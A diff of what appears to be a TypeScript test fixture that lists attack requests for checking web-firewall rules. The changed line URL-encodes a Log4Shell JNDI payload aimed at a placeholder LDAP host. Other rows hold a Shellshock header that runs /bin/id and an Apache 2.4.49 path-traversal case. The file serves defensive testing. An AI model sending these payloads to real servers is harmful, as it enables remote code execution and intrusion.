@@ -20,7 +20,7 @@ type Attack = {
 };
 
 const attacks: readonly Attack[] = [
-  { row: 'S2a', what: 'Log4Shell in the address', rule: 1151, args: ['/?x=${jndi:ldap://192.0.2.7:1389/a}'] },
+  { row: 'S2a', what: 'Log4Shell in the address', rule: 1151, args: ['/?x=$%7Bjndi:ldap://192.0.2.7:1389/a%7D'] },
   { row: 'S2a', what: 'Shellshock over IPv6', rule: 1095, args: ['/', '-H', 'X-Test: () { :;}; /bin/id'], host: six },
   {
     ...{ row: 'S2a', what: 'out of the folder of Apache 2.4.49', rule: 1311 },
